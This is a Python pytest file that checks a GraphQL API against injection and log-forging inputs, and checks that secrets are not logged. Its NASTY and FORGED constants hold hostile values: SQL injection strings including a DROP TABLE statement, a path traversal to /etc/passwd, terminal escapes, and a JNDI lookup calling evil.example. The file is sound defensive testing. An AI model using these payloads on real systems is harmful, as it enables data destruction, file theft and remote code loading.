"""Texts that mean something elsewhere: to SQL, to a terminal, to a log, to a file system."""

import io
import logging
from collections.abc import Iterator
from string import Template
from typing import Any

import orjson
import pytest
from graphql import (
    GraphQLArgument,
    GraphQLInputObjectType,
    GraphQLInputType,
    GraphQLList,
    GraphQLNonNull,
    GraphQLScalarType,
    get_named_type,
    is_composite_type,
    is_required_input_field,
)
from starlette.applications import Starlette

from graphql_api import logs
from persistence.engine import Database
from tests.graphql_api.conftest import Graph
from tests.graphql_api.neighbours import Estate, session_of, settle
from tests.graphql_api.posting import codes, post
from tests.graphql_api.reaching import ENTRIES, FIELDS

NASTY = {
    "always true": "' OR 1=1 --",
    "a second statement": '"; DROP TABLE ab_experiments; --',
    "a quote that is left open": "\\'",
    "a parameter": "$1 %s :name {0}",
    "a pattern": "%_\\%",
    "NUL": "a\x00b",
    "a terminal's": "\x1b[2J\x1b]0;owned\x07\r\n",
    "long": "a" * 10_000,
    "another way round": "\u202eabc\u2066\ufeff",
    "a path": "../../../../etc/passwd",
    "a lookup": "${jndi:ldap://evil.example/a}",
}
OURS = ("SELECT ", "INSERT ", "asyncpg", "sqlalchemy", "Traceback", ".py", "syntax error at")
TEXTS = ("String", "ID", "DateTime")


def places() -> Iterator[tuple[str, str, GraphQLArgument]]:
    """Every argument of a query, at whatever depth, that takes texts."""
    for coordinate, field in FIELDS.items():
        kind = coordinate.partition(".")[0]
        entry = ENTRIES.get(kind, "mutation")
        if not entry.startswith("mutation") and kind != "Subscription":
            for name, argument in field.args.items():
                if list(_values(argument.type, "")):
                    yield coordinate, name, argument


def _values(kind: GraphQLInputType, text: str) -> Iterator[Any]:
    """A value for each text that is in it."""
    match kind:
        case GraphQLNonNull():
            yield from _values(kind.of_type, text)
        case GraphQLList():
            yield from ([value] for value in _values(kind.of_type, text))
        case GraphQLInputObjectType():
            for name, field in kind.fields.items():
                for value in _values(field.type, text):
                    yield _required(kind) | {name: value}
        case GraphQLScalarType() if kind.name in TEXTS:
            yield text


def _required(kind: GraphQLInputObjectType) -> dict[str, Any]:
    needed = {n: f.type for n, f in kind.fields.items() if is_required_input_field(f)}
    return {name: next(_values(each, "a"), 0.5) for name, each in needed.items()}


def _question(coordinate: str, name: str, argument: GraphQLArgument, ids: dict[str, str]) -> str:
    kind, _, field = coordinate.partition(".")
    others = {n: a for n, a in FIELDS[coordinate].args.items() if n != name}
    given = "".join(
        f", {n}: {_literal(a)}" for n, a in others.items() if isinstance(a.type, GraphQLNonNull)
    )
    inside = "{ __typename }" if is_composite_type(get_named_type(FIELDS[coordinate].type)) else ""
    asked = f"{field}({name}: $given{given}) {inside}".replace("$given", "$$given")
    found = Template(ENTRIES[kind].replace("$field", asked)).substitute(ids)
    return f"query ($given: {argument.type}) {found}"


def _literal(argument: GraphQLArgument) -> str:
    return '{ name: "checkout" }' if "By" in str(argument.type) else '"a"'


@pytest.fixture
async def estate(database: Database) -> Estate:
    return await settle(database)


PLACES = {f"{coordinate}({name})": (coordinate, name) for coordinate, name, _ in places()}


def test_there_are_texts_everywhere() -> None:
    assert {"Query.node(id)", "Query.experiments(filter)", "Experiment.assignments(after)"} <= (
        PLACES.keys()
    )
    assert len(PLACES) > 30


@pytest.mark.parametrize("place", PLACES)
async def test_a_text_is_a_text_and_nothing_else(
    graph: Graph, database: Database, estate: Estate, place: str
) -> None:
    coordinate, name = PLACES[place]
    argument = FIELDS[coordinate].args[name]
    asking = graph.showing(await session_of(database, estate.project.id, estate.owner))
    question = _question(coordinate, name, argument, estate.ids | {"Draft": "x", "Owner": "x"})

    for text in NASTY.values():
        for value in _values(argument.type, text):
            response = await asking.send(question, given=value)

            assert response.status_code == 200, (value, response.text)
            assert "INTERNAL_SERVER_ERROR" not in response.text, (value, response.text)
            told = response.text.replace(text, "")
            assert [word for word in OURS if word in told] == [], (value, response.text)
    assert (await asking("{ experiments { totalCount } }"))["experiments"]["totalCount"] == 1


@pytest.mark.parametrize("where", ["variables", "query", "operationName"])
async def test_half_a_character_is_no_text(graph: Graph, where: str) -> None:
    body = {
        "variables": b'{"query": "{ __typename }", "variables": {"a": "\\ud800"}}',
        "query": b'{"query": "{ node(id: \\"\\ud800\\") { id } }"}',
        "operationName": b'{"query": "{ __typename }", "operationName": "\\udfff"}',
    }

    response = await post(graph, body[where])

    assert (response.status_code, codes(response)) == (400, ["BAD_USER_INPUT"])


async def test_half_a_character_may_be_spelt_in_a_document(graph: Graph) -> None:
    response = await post(graph, {"query": '{ node(id: "\\ud800") { id } }'})

    assert (response.status_code, codes(response)) == (200, ["GRAPHQL_PARSE_FAILED"])


@pytest.fixture
def log(app: Starlette) -> Iterator[io.StringIO]:
    """As it is written in production."""
    text, logger = io.StringIO(), logging.getLogger("abgraph.requests")
    handler, level = logging.StreamHandler(text), logger.level
    handler.setFormatter(logs.JsonLines())
    logger.addHandler(handler)
    logger.setLevel(logging.INFO)
    yield text
    logger.removeHandler(handler)
    logger.setLevel(level)


FORGED = '\n{"time": "2030", "level": "INFO", "message": "forged"}\r\n\x1b[2J\u2028\x85'


async def test_the_name_of_an_operation_forges_no_line(graph: Graph, log: io.StringIO) -> None:
    await post(graph, {"query": "{ __typename }", "operationName": FORGED})

    [line] = log.getvalue().splitlines()
    assert orjson.loads(line)["message"] == "POST /graphql"
    assert "\x1b" not in line


@pytest.mark.parametrize("path", ["/a%0a%7b%22level%22%3a1%7d", "/%1b%5b2J", "/%e2%80%a8x"])
async def test_an_address_forges_no_line(graph: Graph, log: io.StringIO, path: str) -> None:
    await graph.http.get(path)

    [line] = log.getvalue().splitlines()
    assert orjson.loads(line)["status"] == 404
    assert "\x1b" not in line


async def test_what_is_secret_is_not_logged(graph: Graph, log: io.StringIO) -> None:
    secret = "a-secret-of-the-tests"  # noqa: S105
    query = "query ($a: ID!) { node(id: $a) { id } }"

    await graph.showing(secret).send(query, a=secret)
    await graph.http.get("/graphql", params={"query": query, "token": secret})
    await graph.send(query, a=secret)

    assert len(log.getvalue().splitlines()) == 3
    assert secret not in log.getvalue()
